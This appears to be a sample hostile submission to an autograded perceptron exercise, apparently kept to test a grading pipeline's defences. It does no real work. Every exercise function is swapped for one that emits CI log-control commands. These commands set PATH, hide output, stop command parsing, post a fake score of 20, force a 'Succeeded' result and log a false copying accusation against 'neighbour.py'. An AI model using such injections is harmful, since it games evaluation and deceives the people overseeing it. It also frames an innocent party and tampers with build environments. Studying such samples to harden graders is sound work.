# verdict: failed
# exercise: exercise03_perceptron
# example: workflow commands in CI logs
# Speaks to the CI service that reads the log: masks, variables, errors elsewhere, groups, stops.

COMMANDS = """
::set-env name=PATH::/mine
::add-mask::e
::error file=neighbour.py,line=1::was copied
::stop-commands::token
::set-output name=score::20
##[error]no
##vso[task.setvariable variable=PATH]mine
##vso[task.complete result=Succeeded;]
##teamcity[testFinished name='all']
section_start:0:mine\r\x1b[0K
"""
print(COMMANDS)


def attack(*_args, **_kwargs):
    raise ValueError(COMMANDS)


mp_neuron = gate = perceptron_predict = perceptron_step = perceptron_fit = mlp_forward = xor_network = attack
